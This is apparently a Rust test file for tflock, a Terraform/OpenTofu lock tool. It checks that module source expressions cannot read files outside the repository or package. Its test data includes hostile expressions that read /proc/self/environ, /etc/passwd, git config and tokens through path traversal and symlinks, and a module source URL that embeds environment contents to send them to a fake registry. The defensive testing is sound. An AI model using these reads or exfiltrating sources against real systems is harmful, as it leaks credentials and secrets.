//! Which files the source expression of a module may read: those in the repository, or in the package of the module.

use std::os::unix::fs::symlink;

use tflock_test_support::{
    DEFAULT_HOSTS, Document, FakeRegistry, ProviderSpec, RawEntry, RawZip, TestContext, table,
};

use super::canary::{leaked, repository, sending};
use crate::TFLOCK;

const ENGINES: [&str; 2] = ["terraform", "tofu"];

/// Expressions that try to read a forbidden file from the directory `NAME`, and part of the error.
const OUT_OF_BOUNDS: &str = r#"
    filebase64("/proc/self/environ")                       | outside
    file("/proc/self/environ")                             | outside
    file("/etc/passwd")                                    | outside
    file("../../home/secret")                              | outside
    file("../../home/missing")                             | outside
    file("link")                                           | outside
    file("dangling")                                       | outside
    file("linked/secret")                                  | outside
    file("${path.module}/../../home/secret")               | outside
    file("../.git/config")                                 | internal
    file(".terraform/token")                               | internal
    fileexists("../../home/secret") ? "yes" : "no"         | outside
    fileexists("../../home/missing") ? "yes" : "no"        | outside
    filemd5("../../home/secret")                           | outside
    filesha1("../../home/secret")                          | outside
    filesha256("../../home/secret")                        | outside
    filesha512("../../home/secret")                        | outside
    filebase64sha256("../../home/secret")                  | outside
    filebase64sha512("../../home/secret")                  | outside
    templatefile("../../home/secret", {})                  | outside
    templatefile("inner.tpl", {})                          | outside
    try(file("../../home/secret"), "none")                 | outside
"#;

/// How an expression reaches the URL: a name, the declarations and the source, with `EXPR` for the expression.
const WAYS: [(&str, &str, &str); 4] = [
    ("itself", "", "EXPR"),
    ("local", "locals { x = { y = [EXPR] } }\n", "local.x.y[0]"),
    (
        "can",
        "locals { x = can(EXPR) }\n",
        "local.x ? \"yes\" : \"no\"",
    ),
    ("condition", "", "true ? EXPR : \"no\""),
];

/// Creates a server and a tree with a secret file outside it. There is one directory per row of [`OUT_OF_BOUNDS`].
fn site(way: (&str, &str, &str)) -> (FakeRegistry, TestContext, Vec<(String, String)>) {
    let registry = FakeRegistry::start();
    let context = TestContext::new(TFLOCK, &registry);
    repository(&context);
    context.write(".git/config", "[secret]");
    context.write("../home/secret", "secret");
    let mut expected = Vec::new();
    for (index, [expression, why]) in table(OUT_OF_BOUNDS).into_iter().enumerate() {
        let name = format!("d{index:02}");
        let declarations = way.1.replace("EXPR", expression);
        let call = sending(&registry, &way.2.replace("EXPR", expression));
        context.write(&format!("{name}/main.tf"), declarations + &call);
        context.write(&format!("{name}/.terraform/token"), "secret");
        let inner = "${file(\"../../home/secret\")}";
        context.write(&format!("{name}/inner.tpl"), inner);
        let link = |target: &str, link: &str| {
            symlink(target, context.path(&format!("{name}/{link}"))).unwrap();
        };
        link("../../home/secret", "link");
        link("../../home/missing", "dangling");
        link("../../home", "linked");
        let why = match why {
            "internal" => "cannot be read by the configuration",
            _ => "it is outside of the repository",
        };
        expected.push((name, why.to_owned()));
    }
    (registry, context, expected)
}

/// A text that becomes a template reads no file in Terraform, and none outside of the repository in OpenTofu.
#[test]
fn templates_in_text_read_no_forbidden_file() {
    let template = "locals { t = \"$${file(\\\"../../home/secret\\\")}\" }\n";
    for (engine, why) in [
        ("terraform", "it depends on `templatestring()`"),
        ("tofu", "it is outside of the repository"),
    ] {
        let (registry, context, _) = site(("template", template, "templatestring(local.t, {})"));
        let outcome = context.run(&format!("lock d00 --engine {engine}"));
        assert_eq!(leaked(&registry), [""; 0], "{engine}\n{outcome}");
        assert!(outcome.stderr.contains(why), "{engine}\n{outcome}");
    }
}

#[test]
fn no_forbidden_file_is_sent() {
    for way in WAYS {
        for engine in ENGINES {
            let (registry, context, expected) = site(way);
            for command in ["lock -r", "lock -r --check", "verify -r", "list -r"] {
                let outcome = context.run(&format!("{command} --engine {engine}"));
                assert_eq!(leaked(&registry), [""; 0], "{way:?} {command}\n{outcome}");
                let text = outcome.to_string();
                assert!(!text.contains("secret]"), "{text}");
                if command == "lock -r" {
                    assert_eq!(outcome.code, Some(1), "{outcome}");
                    for (name, why) in &expected {
                        let one = context.run(&format!("lock {name} --engine {engine}"));
                        let one = one.expect_code(1).to_string();
                        assert!(one.contains(why), "{way:?} {name}: {one}");
                    }
                }
            }
        }
    }
}

#[test]
fn no_forbidden_file_is_sent_from_the_hostile_directory_or_outside_of_repositories() {
    for is_repository in [true, false] {
        let (registry, context, expected) = site(WAYS[0]);
        if !is_repository {
            std::fs::remove_dir_all(context.path(".git")).unwrap();
        }
        for (name, _) in &expected {
            let outcome = context.command("lock --check");
            let outcome = outcome.current_dir(context.path(name)).run();
            outcome.expect_code(1);
        }
        assert_eq!(leaked(&registry), [""; 0]);
    }
}

#[test]
fn arguments_json_and_modules_send_no_forbidden_file() {
    let registry = FakeRegistry::start();
    let context = TestContext::new(TFLOCK, &registry);
    repository(&context);
    context.write("../home/secret", "secret");
    let variable = "variable \"v\" {\n  const = true\n}\n".to_owned();
    let child = variable.clone() + &sending(&registry, "var.v");
    context.write("child/main.tf", child);
    let call = "module \"c\" {\n  source = \"../child\"\n  v = file(\"../../home/secret\")\n}\n";
    context.write("argument/main.tf", call);
    let path_only = "module \"c\" {\n  source = \"../reader\"\n  v = \"/proc/self/environ\"\n}\n";
    context.write("path/main.tf", path_only);
    let reader = variable + &sending(&registry, "file(var.v)");
    context.write("reader/main.tf", reader);
    let source = registry.url("/leak/${filebase64(\\\"/proc/self/environ\\\")}/m.zip");
    let json = format!("{{\"module\": {{\"m\": {{\"source\": \"{source}\"}}}}}}");
    context.write("json/main.tf.json", json);
    for engine in ENGINES {
        for directory in ["argument", "path", "json"] {
            let outcome = context.run(&format!("lock {directory} --engine {engine}"));
            assert_eq!(leaked(&registry), [""; 0], "{outcome}");
            let text = outcome.expect_code(1).to_string();
            assert!(text.contains("it is outside of the repository"), "{text}");
        }
    }
}

#[test]
fn a_refusal_names_the_function_the_path_and_the_option() {
    let registry = FakeRegistry::start();
    let context = TestContext::new(TFLOCK, &registry);
    repository(&context);
    context.write("a/main.tf", sending(&registry, "file(\"/etc/passwd\")"));
    let text = context.run("lock a").expect_code(1).stderr;
    for part in [
        "cannot evaluate the module source",
        "a/main.tf:2",
        "`file` cannot read `/etc/passwd`: it is outside of the repository",
        "permit its directory with `--allow-read DIR`",
    ] {
        assert!(text.contains(part), "{part}\n{text}");
    }
    // Errors do not show paths that come from environment variables.
    let variable = "variable \"v\" {\n  const = true\n}\n".to_owned();
    context.write("a/main.tf", variable + &sending(&registry, "file(var.v)"));
    let text = context.command("lock a").env("TF_VAR_v", "/etc/passwd");
    let text = text.run().expect_code(1).stderr;
    let part = "`file` cannot read a file whose path is not shown: it is outside of the repository";
    assert!(text.contains(part) && !text.contains("passwd"), "{text}");
}

/// Creates a registry with a provider, and a tree whose module `m` requires it.
fn permitted() -> (FakeRegistry, TestContext) {
    let mut registry = FakeRegistry::start();
    registry.publish(ProviderSpec::new("acme/anvil").hosts(DEFAULT_HOSTS));
    let context = TestContext::new(TFLOCK, &registry);
    context.require("m", &[("acme/anvil", "")]);
    (registry, context)
}

#[test]
fn permitted_files_are_read() {
    // The columns: a file, the source expression of `m` in `a/b`, the options, and whether the file is read.
    for [file, expression, options, is_read] in table(
        r#"
        a/b/name      | file("name")                   |                                             | yes
        name          | file("../../name")             |                                             | yes
        a/b/name      | file("${path.root}/name")      |                                             | yes
        a/b/target    | file("link")                   |                                             | yes
        a/name        | file("${path.module}/../name") |                                             | yes
        ../share/name | file("../../../share/name")    |                                             | no
        ../share/name | file("../../../share/name")    | --allow-read ../share                       | yes
        ../share/name | file("../../../share/name")    | --allow-read ../home --allow-read ../share  | yes
        .git/name     | file("../../.git/name")        | --allow-read .                              | no
        "#,
    ) {
        for is_repository in [true, false] {
            let (_registry, context) = permitted();
            if is_repository {
                repository(&context);
            }
            context.write(file, "m");
            let text = format!("module \"m\" {{\n  source = \"../../${{{expression}}}\"\n}}\n");
            context.write("a/b/main.tf", text);
            symlink("target", context.path("a/b/link")).unwrap();
            let outcome = context.run(&format!("lock --platform linux_amd64 a/b {options}"));
            let expected = i32::from(is_read == "no");
            assert_eq!(outcome.code, Some(expected), "{expression}\n{outcome}");
        }
    }
}

#[test]
fn outside_of_repositories_local_modules_read_their_own_directory() {
    let (_registry, context) = permitted();
    context.write("../share/lib/name", "m");
    let lib =
        "module \"m\" {\n  source = \"../../repository/${file(\"${path.module}/name\")}\"\n}\n";
    context.write("../share/lib/main.tf", lib);
    let call = "module \"l\" {\n  source = \"../../share/lib\"\n}\n";
    context.write("a/main.tf", call);
    let lock = || context.run("lock --platform linux_amd64 a");
    lock().expect_success();
    // In a repository, a run cannot read modules outside it.
    repository(&context);
    let text = lock().expect_code(1).to_string();
    assert!(text.contains("it is outside of the repository"), "{text}");
}

#[test]
fn packages_read_their_own_files_only() {
    let (registry, context) = permitted();
    repository(&context);
    context.write("a/own", "own");
    for (expression, is_read) in [
        ("file(\"${path.module}/name\")", true),
        ("file(\"own\")", false),
        ("file(\"${path.root}/own\")", false),
        ("file(\"/etc/passwd\")", false),
        ("file(var.from_caller)", false),
        ("var.value", true),
    ] {
        let main = format!(
            "variable \"from_caller\" {{\n  const = true\n  default = \"\"\n}}\n\
             variable \"value\" {{\n  const = true\n  default = \"\"\n}}\n\
             module \"i\" {{\n  source = \"./${{{expression}}}\"\n}}\n"
        );
        let entries = [("main.tf", &*main), ("name", "inner"), ("inner/x.tf", "")];
        let entries = entries.map(|(name, text)| RawEntry::stored(name, text));
        let zip = RawZip::of(entries).to_bytes();
        registry.serve("/p.zip", Document::octets(zip));
        let call = format!(
            "module \"p\" {{\n  source = \"{}\"\n  from_caller = \"own\"\n  value = file(\"own\") == \"own\" ? \"inner\" : \
             \"\"\n}}\n",
            registry.url("/p.zip")
        );
        context.write("a/main.tf", call);
        // Installs the same package as a module.
        let directory = "a/.terraform/modules/p";
        context.write(&format!("{directory}/main.tf"), &main);
        context.write(&format!("{directory}/name"), "inner");
        context.write(&format!("{directory}/inner/x.tf"), "");
        let record = format!(
            "{{\"Modules\":[{{\"Key\":\"p\",\"Source\":\"{}\",\"Dir\":\".terraform/modules/p\"}}]}}",
            registry.url("/p.zip")
        );
        for modules in ["{}", &record] {
            context.write("a/.terraform/modules/modules.json", modules);
            let outcome = context.run("lock --no-cache a");
            let expected = i32::from(!is_read);
            assert_eq!(outcome.code, Some(expected), "{expression}\n{outcome}");
            let text = outcome.to_string();
            let words = "it is outside of the module's package";
            assert_eq!(text.contains(words), !is_read, "{expression}\n{text}");
        }
    }
}

#[test]
fn the_option_exists_on_the_command_line_only() {
    let (_registry, context) = permitted();
    repository(&context);
    let outcome = context.run("lock --allow-read nowhere m").expect_code(2);
    outcome.assert_stderr("cannot use `--allow-read nowhere`");
    context.write(".tflock.toml", "allow-read = [\"/\"]\n");
    let outcome = context.run("lock m").expect_code(2);
    outcome.assert_stderr("set `--allow-read` on the command line: config files cannot set it");
}

#[test]
fn variable_files_that_are_pipes_are_read_once() {
    let (_registry, context) = permitted();
    repository(&context);
    let text =
        "variable \"v\" {\n  const = true\n}\nmodule \"m\" {\n  source = \"../${var.v}\"\n}\n";
    for directory in ["a", "b", "c"] {
        context.write(&format!("{directory}/main.tf"), text);
    }
    let pipe = context.path("../share/pipe");
    let made = std::process::Command::new("mkfifo").arg(&pipe).status();
    assert!(made.unwrap().success());
    let writer = {
        let pipe = pipe.clone();
        std::thread::spawn(move || std::fs::write(pipe, "v = \"m\"\n").unwrap())
    };
    let program = context.command("lock --platform linux_amd64 a b c");
    program.arg("--var-file").arg(&pipe).run().expect_success();
    writer.join().unwrap();
}
